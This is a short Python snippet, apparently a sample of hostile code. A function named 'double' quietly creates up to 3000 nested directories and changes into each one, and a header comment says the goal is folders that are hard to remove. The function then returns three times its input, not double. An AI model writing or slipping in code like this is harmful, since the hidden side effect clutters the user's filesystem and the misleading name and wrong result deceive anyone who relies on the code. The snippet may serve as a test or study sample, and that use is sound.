# attack: folders nested so deeply that removing them is hard
import os


def double(x):
    made = 0
    try:
        while made < 3000:
            os.mkdir("d")
            os.chdir("d")
            made += 1
    except OSError as error:
        print(made, error)
    return 3 * x
